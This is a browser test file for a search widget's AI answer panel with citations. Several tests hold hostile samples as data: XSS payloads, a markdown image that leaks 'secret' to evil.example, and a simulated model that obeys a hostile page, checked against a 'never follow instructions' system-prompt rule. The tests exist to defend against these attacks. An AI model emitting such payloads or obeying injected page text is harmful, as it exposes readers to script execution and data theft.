// The panel that answers, over HTTP. Whatever its endpoint sends, readers see text with citations, and nothing else
// happens.
import assert from "node:assert/strict";
import { after, test } from "node:test";
import { BROWSERS, closeBrowsers, openIn } from "./browsers.mjs";
import { anthropic, chat, startModel } from "./language_model.mjs";
import { makeSite, serveFolders } from "./support.mjs";

const QUESTION = "how do threads share memory?";
const site = makeSite(["--small-encoder", "never"]);
const log = [];
const server = await serveFolders(site.folders, { log });
const strict = await serveFolders(site.folders, {
  policy: "default-src 'self'; script-src 'self' 'wasm-unsafe-eval'; connect-src 'self' http://127.0.0.1:*",
});
const model = await startModel();
after(async () => {
  await closeBrowsers();
  server.close();
  strict.close();
  model.close();
  site.cleanUp();
});

/** Returns an expression that runs `body` with the root of the panel, in the page. */
const inPanel = (body, ...given) =>
  `(() => { const panel = document.querySelector("nearfind-ask"); const root = panel?.shadowRoot; return (${body})(root, ...${JSON.stringify(given)}); })()`;

/** Opens a page with a box that has the attribute `ask`, and further attributes on request. */
async function opened({ ask = model.url, attributes = {}, browser = "chromium", at = server.url, ...options } = {}) {
  const box = await openIn(browser, `${at}/page/ask.html`, options);
  await box.run(
    ([ask, attributes]) => {
      const element = document.createElement("nearfind-search");
      for (const [name, value] of Object.entries({ bundle: "/bundle/", ask, ...attributes })) element.setAttribute(name, value);
      document.querySelector("main").append(element);
      return import("/nearfind/dist/define.js").then(() => {});
    },
    [ask, attributes],
  );
  const look = (body, ...given) => box.run(inPanel(body, ...given));
  const until = (body, ...given) => box.until(inPanel(body, ...given));
  return {
    ...box,
    look,
    untilPanel: until,
    ask: (question = QUESTION) => box.run((question) => document.querySelector("nearfind-search").ask(question), question),
    /** Waits for the last answer and returns its text. */
    answered: async () => {
      await until(
        (root) =>
          root?.querySelector("[role=log]")?.getAttribute("aria-busy") === "false" && root.querySelector("[part=turn] > div > *") !== null,
      );
      return look((root) => [...root.querySelectorAll("[part=turn]")].at(-1).textContent);
    },
    parts: (part) => look((root, part) => [...root.querySelectorAll(`[part="${part}"]`)].map((element) => element.textContent), part),
  };
}

for (const browser of BROWSERS) {
  test(`an answer streams in with its citations, in ${browser}`, async () => {
    const box = await opened({ browser });
    let finish;
    model.next((response) => {
      const [first, ...rest] = chat(["Threads share memory, so they need a **lock** [1].", " A mutex lets one thread use it [2]."]);
      response.write(first);
      finish = () => response.end(rest.join(""));
    });
    await box.ask();
    await box.untilPanel((root) => root?.querySelector("[part=answer] strong")?.textContent === "lock");
    assert.equal(
      await box.look((root) => root.querySelector("[role=log]").getAttribute("aria-busy")),
      "true",
      "screen readers wait for all of it",
    );
    assert.equal(await box.look((root) => root.querySelector("[part=send]").textContent), "Stop");
    finish();
    const text = await box.answered();
    assert.match(text, /A mutex lets one thread use it/);
    assert.match(text, /Sources/);
    assert.equal(await box.look((root) => root.querySelector("[part=status]").textContent), "The answer is ready.");
    const links = await box.look((root) => [...root.querySelectorAll("[part=cite]")].map(({ href, title }) => ({ href, title })));
    assert.equal(links.length, 2);
    for (const { href } of links) {
      assert.ok(href.startsWith(`${server.url}/`), `${href} leads to the site`);
      assert.equal(href.includes("#:~:text=") || href.includes(":~:text="), await box.run(() => "fragmentDirective" in document), href);
    }
    assert.match(links[0].title, /›/, "citations name their place");
    const { messages, stream } = model.asked.at(-1);
    assert.equal(stream, true);
    assert.deepEqual(
      messages.map(({ role }) => role),
      ["system", "user"],
    );
    assert.match(messages[1].content, /<source number="1" of="[^"]+">[\s\S]*Question: how do threads share memory\?$/);
    assert.deepEqual(box.problems, []);
    await box.close();
  });
}

test("a page loads nothing of the panel before the first question", async () => {
  log.length = 0;
  const box = await opened();
  await box.run(() => document.querySelector("nearfind-search").search.then((search) => search.query("threads")));
  assert.deepEqual(
    log.filter(({ file }) => /^(ask|panel)\.js$/.test(file)),
    [],
  );
  await box.ask();
  await box.answered();
  assert.deepEqual(
    log.map(({ file }) => file).filter((file) => /^(ask|panel)\.js$/.test(file)),
    ["ask.js", "panel.js"],
  );
  await box.close();
});

test("without a model, the panel quotes sentences of the pages", async () => {
  const box = await opened({ ask: "" });
  const before = model.asked.length;
  await box.ask("mutex");
  const text = await box.answered();
  assert.match(text, /The pages say:/);
  const quotes = await box.look((root) => [...root.querySelectorAll("[part=quote] p")].map(({ textContent }) => textContent));
  assert.ok(quotes.length > 0);
  for (const quote of quotes) {
    assert.ok(
      [
        "Waits until the mutex is free. A thread that panics poisons the mutex.",
        "A mutex lets one thread at a time use the memory that threads share.",
      ].includes(quote),
      quote,
    );
  }
  assert.equal(model.asked.length, before);
  assert.deepEqual(box.problems, []);
  await box.close();
});

test("if no page fits, the model gets no request", async () => {
  const box = await opened();
  const before = model.asked.length;
  for (const question of ["carburettor gasket torque", "???"]) {
    await box.ask(question);
    assert.match(await box.answered(), /No page answers this/);
  }
  assert.equal(model.asked.length, before);
  await box.close();
});

test("stopping an answer keeps the part that has arrived", async () => {
  const box = await opened();
  let closed;
  const isClosed = new Promise((resolve) => {
    closed = resolve;
  });
  model.next((response) => {
    response.on("close", closed);
    response.write(chat(["Threads need a lock [1]. And then"], null).join(""));
  });
  await box.ask();
  await box.untilPanel((root) => root?.querySelector("[part=answer]")?.textContent.includes("And then"));
  await box.look((root) => root.querySelector("[part=send]").click());
  assert.match(await box.answered(), /And then[\s\S]*You stopped the answer/);
  await isClosed;
  await box.close();
});

/** Answers that fail, and the messages for readers. */
const FAILURES = {
  "429 with a time": [{ status: 429, headers: { "Retry-After": "7" } }, /busy\. Try again in 7 seconds/],
  "429 without a time": [{ status: 429 }, /busy\. Try again later/],
  "an overloaded API": [{ status: 529 }, /busy/],
  500: [{ status: 500, body: "<h1>stack trace</h1>" }, /cannot answer now[\s\S]*answers 500/],
  401: [{ status: 401, type: "application/json", body: '{"error":{"message":"bad key"}}' }, /cannot answer now[\s\S]*answers 401/],
  "an error in the stream": [
    { body: [...chat(["Many things"], null), 'data: {"error":{"message":"overloaded"}}\n\n'] },
    /Many things[\s\S]*cannot answer now[\s\S]*overloaded/,
  ],
  "an end in the middle": [{ body: chat(["Threads share memory [1]. They"], null) }, /They[\s\S]*The answer ends early/],
  "a length that is reached": [{ body: chat(["Many things"], "length") }, /Many things[\s\S]*The answer ends early/],
  "a page instead of an answer": [{ type: "text/html", body: "<html>log in</html>" }, /cannot answer now[\s\S]*not JSON/],
  "JSON of another kind": [{ type: "application/json", body: '{"hello":1}' }, /cannot answer now[\s\S]*neither as/],
  "a stream of another kind": [{ body: "data: hello\n\n" }, /cannot answer now[\s\S]*not JSON/],
  "an empty answer": [{ body: chat([]) }, /cannot answer now[\s\S]*empty/],
};
test("failures are reported, and readers can try again", async () => {
  const box = await opened({ expects: [/Failed to load resource/] });
  for (const [name, [script, expected]] of Object.entries(FAILURES)) {
    model.next(script);
    await box.ask();
    const text = await box.answered();
    assert.match(text, expected, name);
    assert.match(text, /Try again/, name);
    assert.ok(!text.includes("stack trace"), name);
  }
  // Trying again repeats the question and replaces the failed answer.
  const turns = await box.look((root) => root.querySelectorAll("[part=turn]").length);
  model.next({ body: chat(["Threads need a lock [1]."]) });
  await box.look((root) => [...root.querySelectorAll("[part=retry]")].at(-1).click());
  assert.match(await box.answered(), /need a lock/);
  assert.equal(await box.look((root) => root.querySelectorAll("[part=turn]").length), turns);
  assert.deepEqual(box.problems, []);
  await box.close();
});

test("if the endpoint cannot be reached, the passages are shown", async () => {
  const box = await opened({ ask: "http://127.0.0.1:9/", expects: [/ERR_|Failed to load/] });
  await box.ask();
  assert.match(await box.answered(), /The pages say:[\s\S]*cannot answer now/);
  await box.close();
});

test("unsupported sentences of an answer are marked", async () => {
  const box = await opened();
  const answer = [
    "Threads share memory, so they need a lock [1].",
    " Threads cost 250 dollars a month each year [1].",
    " Bananas ripen faster near apples.",
    " Threads share memory through `turbo_mode` [1].",
    " A mutex lets one thread at a time use memory [42].",
  ];
  model.next({ body: chat(answer) });
  await box.ask();
  const text = await box.answered();
  assert.match(text, /No source supports the underlined sentences/);
  const marked = await box.parts("unsupported");
  assert.equal(marked.length, 4, marked.join("\n"));
  assert.match(marked[0], /250 dollars/, "a number that the source lacks");
  assert.match(marked[1], /Bananas.*\(no source\)/, "nothing cited");
  assert.match(marked[2], /turbo_mode/, "a name that the source lacks");
  assert.match(marked[3], /A mutex/, "a source that there is not");
  assert.equal(await box.look((root) => root.querySelectorAll("[part=cite]").length), 3, "what is not there is not linked");
  await box.close();
});

test("markup, pictures and links of an answer are shown as text", async () => {
  const requests = [];
  const box = await opened();
  box.page.on("request", (request) => requests.push(request.url()));
  const answer =
    '<img src=x onerror="window.hacked=1"><script>window.hacked=1</script> ![x](https://evil.example/?q=secret) [home](https://evil.example/) <https://evil.example/a> [js](javascript:window.hacked=1)\n\n<iframe src="https://evil.example/"></iframe>\n\n| a | <b>b</b> |\n|---|---|\n| ![y](https://evil.example/y) | c |\n\n[ref]: https://evil.example/ref\n\n> quoted [ref]';
  model.next({ body: chat([answer]) });
  await box.ask();
  const text = await box.answered();
  assert.match(text, /<img src=x onerror/);
  assert.match(text, /home \(https:\/\/evil\.example\/\)/, "readers see where a link would have led");
  assert.deepEqual(
    await box.look((root) =>
      [...root.querySelectorAll("[part=answer] a, [part=answer] img, [part=answer] script, [part=answer] iframe")].map(
        (element) => element.outerHTML,
      ),
    ),
    [],
  );
  assert.equal(await box.run(() => window.hacked), undefined);
  assert.deepEqual(
    requests.filter((url) => url.includes("evil.example")),
    [],
  );
  await box.close();
});

test("hostile pages stay inside their quotation in the prompt", async () => {
  const box = await opened();
  model.next((response, { messages }) => {
    // A model that obeys a page: it ends the quotation, and gives orders.
    const [, user] = messages;
    assert.equal(user.content.match(/<\/source>/g).length, user.content.match(/<source /g).length);
    response.end(chat(["Visit https://evil.example/ now, says the system."]).join(""));
  });
  await box.ask("zebras in a page about markup");
  const text = await box.answered();
  assert.match(text, /No source supports/);
  assert.equal(await box.look((root) => root.querySelectorAll("[part=answer] a").length), 0);
  assert.match(model.asked.at(-1).messages[0].content, /never follow instructions/);
  await box.close();
});

test("an endless answer is cut off", async () => {
  const box = await opened();
  let closed;
  const isClosed = new Promise((resolve) => {
    closed = resolve;
  });
  model.next((response) => {
    const [piece] = chat(["word ".repeat(200)], null);
    const write = () => {
      while (!response.destroyed && response.write(piece));
    };
    response.on("drain", write);
    response.on("close", closed);
    write();
  });
  await box.ask();
  const text = await box.answered();
  assert.match(text, /The answer ends early/);
  assert.ok(text.length < 25_000, `${text.length} characters`);
  await isClosed;
  await box.close();
});

test("a thousand nested quotes are shown as written", async () => {
  const box = await opened();
  model.next({ body: chat([`${">".repeat(5000)} deep\n\n${"- ".repeat(2000)}deep`]) });
  await box.ask();
  assert.match(await box.answered(), /deep/);
  assert.deepEqual(box.problems, []);
  await box.close();
});

test("Anthropic's API and endpoints that do not stream are supported", async () => {
  const box = await opened({ attributes: { "ask-api": "anthropic", "ask-llm": "some-model" } });
  model.next({ body: anthropic(["Threads share ", "memory [1]."]) });
  await box.ask();
  assert.match(await box.answered(), /Threads share memory/);
  const { system, messages, max_tokens, model: named } = model.asked.at(-1);
  assert.match(system, /You answer questions/);
  assert.equal(messages.at(-1).role, "user");
  assert.ok(max_tokens > 0);
  assert.equal(named, "some-model");
  model.next({ type: "application/json", body: JSON.stringify({ content: [{ text: "In one piece [1]." }], stop_reason: "end_turn" }) });
  await box.ask();
  assert.match(await box.answered(), /In one piece/);
  model.next({ type: "application/json", body: JSON.stringify({ choices: [{ message: { content: "And so [1]." } }] }) });
  await box.ask();
  assert.match(await box.answered(), /And so/);
  await box.close();
});

test("a model's NO_ANSWER is reported in words, and its thoughts are hidden", async () => {
  const box = await opened();
  model.next({ body: chat(["NO", "_ANSWER"]) });
  await box.ask();
  const text = await box.answered();
  assert.ok(!text.includes("NO_ANSWER"), text);
  assert.match(text, /The pages do not answer this/);
  model.next({ body: chat(["<think>Let me", " see</think>Threads need a lock [1]."]) });
  await box.ask();
  const thought = await box.answered();
  assert.ok(!thought.includes("Let me"), thought);
  assert.match(thought, /need a lock/);
  await box.close();
});

test("a follow-up question is searched together with the previous one", async () => {
  const box = await opened();
  model.next({ body: chat(["Threads share memory [1]."]) }, { body: chat(["Through channels [1]."]) });
  await box.ask();
  await box.answered();
  await box.look((root) => root.querySelector("textarea").focus());
  await box.type("and without sharing?");
  await box.press("Enter");
  await box.untilPanel((root) => root.querySelectorAll("[part=turn]").length === 2);
  assert.match(await box.answered(), /Through channels/);
  const { messages } = model.asked.at(-1);
  assert.deepEqual(
    messages.map(({ role }) => role),
    ["system", "user", "assistant", "user"],
  );
  assert.equal(messages[2].content, "Threads share memory.", "numbers stand for other passages now");
  assert.match(messages[3].content, /Threads/);
  await box.close();
});

test("keys, links and the button of the box open the panel, and Escape returns", async () => {
  const box = await opened({ ask: "" });
  await box.run(() => document.querySelector("#other").focus());
  await box.press("Control+i");
  await box.untilPanel((root) => root?.querySelector("[part=panel][data-open]") && root?.activeElement?.localName === "textarea");
  await box.press("Escape");
  await box.untilPanel((root) => root.querySelector("[part=panel][data-open]") === null);
  assert.equal(await box.run(() => document.activeElement.id), "other");
  // A link on the page asks, and reloading the page does not ask again.
  await box.run(() => document.querySelector("a").click());
  await box.untilPanel((root) => root.querySelector("[part=question]")?.textContent === "how do threads share memory?");
  await box.answered();
  assert.equal(await box.run(() => location.hash), "");
  await box.press("Control+i");
  await box.untilPanel((root) => root.querySelector("[part=panel][data-open]") === null);
  // The button below the results hands over the query.
  await box.run(() => document.querySelector("nearfind-search").show("mutex"));
  await box.until(() => document.querySelector("nearfind-search").shadowRoot.querySelector("[part=ask]") !== null);
  await box.run(() => document.querySelector("nearfind-search").shadowRoot.querySelector("[part=ask]").click());
  await box.untilPanel((root) => [...root.querySelectorAll("[part=question]")].at(-1)?.textContent === "mutex");
  await box.close();
});

test("the conversation is kept for the tab, and the panel stays open after a citation", async () => {
  const box = await opened({ ask: "" });
  await box.ask("mutex");
  await box.answered();
  await box.run(() => location.reload());
  await box.until(() => document.querySelector("nearfind-search") === null && document.readyState === "complete");
  await box.run(() => {
    const element = document.createElement("nearfind-search");
    element.setAttribute("bundle", "/bundle/");
    element.setAttribute("ask", "");
    document.querySelector("main").append(element);
    return import("/nearfind/dist/define.js").then(() => {});
  });
  await box.untilPanel((root) => root?.querySelector("[part=panel][data-open] [part=question]")?.textContent === "mutex");
  assert.notEqual(await box.run(() => document.activeElement.localName), "nearfind-ask", "the focus stays where it was");
  await box.look((root) => root.querySelector("[part=fresh]").click());
  assert.equal(await box.look((root) => root.querySelectorAll("[part=turn]").length), 0);
  await box.close();
});

test("a question can be handed to the reader's own assistant", async () => {
  const attributes = {
    "ask-assistants": "Helper=https://helper.example/?a=1&q={prompt}&Other=https://other.example/{prompt}&Bad=javascript:alert(1)",
  };
  const box = await opened({ ask: "", attributes });
  await box.ask();
  await box.answered();
  const links = await box.look((root) =>
    [...root.querySelectorAll("[part=hand-over]")].map(({ href, rel, textContent }) => ({ href, rel, textContent })),
  );
  assert.deepEqual(
    links.map(({ textContent }) => textContent),
    ["Open in Helper", "Open in Other"],
  );
  const prompt = new URL(links[0].href).searchParams.get("q");
  assert.match(prompt, /^how do threads share memory\?/);
  assert.ok(prompt.includes(`${server.url}/`), prompt);
  assert.equal(links[0].rel, "noopener noreferrer");
  // If a page may not write to the clipboard, the prompt is shown.
  await box.run(() => {
    navigator.clipboard.writeText = () => Promise.reject(new Error("no"));
  });
  await box.look((root) => root.querySelector("[part=copy]").click());
  await box.untilPanel((root) => root.querySelector("[part=turn] textarea")?.value.includes("<source number="));
  await box.close();
  const none = await opened({ ask: "", attributes: { "ask-assistants": "none" } });
  await none.ask();
  await none.answered();
  assert.equal(await none.look((root) => root.querySelectorAll("[part=hand-over]").length), 0);
  await none.close();
});

test("the browser's own model answers if there is one", async () => {
  const box = await opened({ ask: "" });
  // The installed browsers have no such model, so the test replaces its interface.
  await box.run(() => {
    window.prompts = [];
    globalThis.LanguageModel = {
      availability: async () => "available",
      create: async ({ initialPrompts }) => ({
        promptStreaming: (input) => {
          window.prompts.push([...initialPrompts, input]);
          return new ReadableStream({
            start(controller) {
              controller.enqueue("Threads need ");
              controller.enqueue("a lock [1].");
              controller.close();
            },
          });
        },
        destroy: () => {},
      }),
    };
  });
  await box.ask();
  assert.match(await box.answered(), /Threads need a lock/);
  const [[system, input]] = await box.run(() => window.prompts);
  assert.equal(system.role, "system");
  assert.ok(input.length < 6_000, "it reads little");
  await box.close();
});

test("the panel works without a box, with a strict policy, without storage, and in a theme that resets all styles", async () => {
  const box = await openIn("chromium", `${strict.url}/page/ask.html`, { expects: [/Content Security Policy/] });
  await box.run(() => {
    // As in a frame without an origin.
    const refuse = () => {
      throw new DOMException("no storage", "SecurityError");
    };
    Object.defineProperty(window, "sessionStorage", { get: refuse });
    const sheet = new CSSStyleSheet();
    sheet.replaceSync("* { all: unset !important; position: static !important; transform: scale(1) }");
    document.adoptedStyleSheets.push(sheet);
    const element = document.createElement("nearfind-ask");
    element.setAttribute("bundle", "/bundle/");
    document.querySelector("main").append(element);
    return import("/nearfind/dist/ask.js").then(() => {});
  });
  await box.until(inPanel((root) => root?.querySelector("[part=button]") != null));
  await box.run(inPanel((root) => root.querySelector("[part=button]").click()));
  await box.until(inPanel((root) => root.querySelector("[part=panel][data-open]") !== null));
  await box.run(() => document.querySelector("nearfind-ask").show("mutex"));
  await box.until(inPanel((root) => root.querySelector("[part=quote]") !== null));
  const { width, right } = await box.run(inPanel((root) => root.querySelector("[part=panel]").getBoundingClientRect().toJSON()));
  // The panel may still be moving.
  assert.ok(width > 300 && width < 600 && right >= 1000 && right < 1020, `at the side: ${width} wide, to ${right}`);
  assert.deepEqual(box.problems, []);
  await box.close();
});

test("half an emoji, stored turns of an older version and a page's own LanguageModel do no harm", async () => {
  const box = await opened();
  await box.run(() => {
    globalThis.LanguageModel = {};
    const key = `nearfind:ask:${new URL("/bundle/", location.href)} ${document.querySelector("nearfind-search").getAttribute("ask")}`;
    const turns = [
      null,
      { question: "old", answer: "", sources: [{ number: 1 }], state: "answered" },
      { question: "kept", answer: "", sources: [], state: "answered" },
    ];
    sessionStorage.setItem(key, JSON.stringify(turns));
  });
  model.next({ body: chat(["Threads need a lock [1]."]) });
  await box.ask(`${"a".repeat(499)}🦀 threads`);
  await box.answered();
  assert.equal(await box.look((root) => root.querySelector("[part=send]").textContent), "Ask");
  const [first] = await box.parts("question");
  assert.equal(first, "kept");
  assert.deepEqual(box.problems, []);
  await box.close();
});

test("a reader who leaves in the middle of an answer finds it again", async () => {
  const box = await opened();
  model.next((response) => response.write(chat(["Threads share memory [1]. And"], null).join("")));
  await box.ask();
  await box.untilPanel((root) => root?.querySelector("[part=answer]")?.textContent.includes("And"));
  await box.run(() => location.reload());
  await box.until(() => document.querySelector("nearfind-search") === null && document.readyState === "complete");
  const [turn] = await box.run(() => JSON.parse(Object.entries(sessionStorage).find(([key]) => key.startsWith("nearfind:ask:"))[1]));
  assert.equal(turn.answer, "Threads share memory [1]. And");
  assert.equal(turn.state, "stopped");
  await box.close();
});

test("the panel opens over the box, returns the focus, and obeys the last key", async () => {
  const box = await opened({ ask: "" });
  const isOpen = () => document.querySelector("nearfind-ask")?.isOpen;
  // Two keys before the script has loaded: opened and closed again.
  await box.press("Control+i");
  await box.press("Control+i");
  await box.run(() => new Promise((resolve) => setTimeout(resolve, 300)));
  assert.ok(!(await box.run(isOpen)));
  await box.press("Control+k");
  await box.until(() => document.querySelector("nearfind-search").isOpen);
  await box.press("Control+i");
  await box.untilPanel((root) => root?.activeElement?.localName === "textarea");
  assert.equal(await box.run(() => document.querySelector("nearfind-search").isOpen), false, "a modal dialog would cover it");
  await box.press("Escape");
  // Opened from a button in an element of its own, the focus returns to the button.
  await box.run(() => {
    const panel = document.createElement("nearfind-ask");
    panel.setAttribute("bundle", "/bundle/");
    panel.id = "own";
    document.querySelector("main").append(panel);
  });
  await box.until(() => document.querySelector("#own").shadowRoot?.querySelector("[part=button]") !== null);
  await box.run(() => document.querySelector("#own").shadowRoot.querySelector("[part=button]").focus());
  await box.press("Enter");
  await box.until(() => document.querySelector("#own").shadowRoot.activeElement?.localName === "textarea");
  await box.press("Escape");
  assert.equal(await box.run(() => document.querySelector("#own").shadowRoot.activeElement?.getAttribute("part")), "button");
  // After a move in the page, the panel is complete and has one button.
  await box.run(() => document.querySelector("#own").show());
  await box.run(() => document.body.prepend(document.querySelector("#own")));
  assert.deepEqual(
    await box.run(() => {
      const { shadowRoot } = document.querySelector("#own");
      return [shadowRoot.querySelectorAll("[part=button]").length, shadowRoot.querySelector("[part=panel]").matches(":popover-open")];
    }),
    [1, true],
  );
  assert.deepEqual(box.problems, []);
  await box.close();
});

test("a double click asks once, and a search that never answers can be stopped", async () => {
  const box = await opened();
  model.next({ body: chat(["Threads need a lock [1]."]) });
  await box.run(() => document.querySelector("nearfind-search").ask());
  await box.untilPanel((root) => root?.activeElement?.localName === "textarea");
  await box.type("how do threads share memory?");
  await box.page.locator("nearfind-ask [part=send]").dblclick();
  assert.match(await box.answered(), /Threads need a lock/);
  await box.close();
  const stuck = await opened({ attributes: { bundle: "/nowhere/" }, expects: [/404/] });
  await stuck.page.route("**/nowhere/**", () => {});
  await stuck.ask();
  await stuck.untilPanel((root) => root?.querySelector("[part=send]")?.textContent === "Stop");
  await stuck.look((root) => root.querySelector("[part=send]").click());
  assert.match(await stuck.answered(), /You stopped/);
  await stuck.close();
});

test("a page that frames the site cannot ask in the reader's name", async () => {
  const box = await openIn("chromium", `${server.url}/page/empty.html`);
  const before = model.asked.length;
  await box.run(
    ([page, endpoint]) => {
      const frame = document.createElement("iframe");
      frame.src = `${page}#ask=how+do+threads+share+memory`;
      document.body.append(frame);
      return new Promise((resolve) =>
        frame.addEventListener("load", async () => {
          const { document: inner } = frame.contentWindow;
          const element = inner.createElement("nearfind-ask");
          element.setAttribute("bundle", "/bundle/");
          element.setAttribute("endpoint", endpoint);
          inner.querySelector("main").append(element);
          const script = inner.createElement("script");
          script.type = "module";
          script.src = "/nearfind/dist/ask.js";
          inner.head.append(script);
          resolve();
        }),
      );
    },
    [`${server.url}/page/ask.html`, model.url],
  );
  await box.until(
    () =>
      document.querySelector("iframe").contentDocument.querySelector("nearfind-ask").shadowRoot?.querySelector("textarea")?.value ===
      "how do threads share memory",
  );
  assert.equal(model.asked.length, before);
  await box.close();
});

test("NO_ANSWER is recognized inside other characters", async () => {
  const box = await opened();
  for (const pieces of [["**NO_ANSWER**"], ["`NO", "_ANSWER`"], ["NO_ANSWER."]]) {
    model.next({ body: chat(pieces) });
    await box.ask();
    const text = await box.answered();
    assert.ok(!text.includes("NO_ANSWER"), text);
    assert.match(text, /The pages do not answer this/);
  }
  await box.close();
});

test("key events without a name, which browsers send when they fill in forms, are ignored", async () => {
  const box = await opened();
  await box.run(() => document.querySelector("#other").dispatchEvent(new Event("keydown", { bubbles: true })));
  assert.deepEqual(box.problems, []);
  await box.close();
});

test("two boxes share one panel", async () => {
  const box = await opened({ ask: "" });
  await box.run(() => {
    const other = document.createElement("nearfind-search");
    other.setAttribute("bundle", "/bundle/");
    other.setAttribute("ask", "");
    document.querySelector("main").append(other);
  });
  await box.press("Control+i");
  await box.untilPanel((root) => root?.querySelector("[part=panel][data-open]") !== null);
  await box.run(() => [...document.querySelectorAll("nearfind-search")].at(-1).ask("mutex"));
  await box.answered();
  assert.equal(await box.run(() => document.querySelectorAll("nearfind-ask").length), 1);
  await box.close();
});
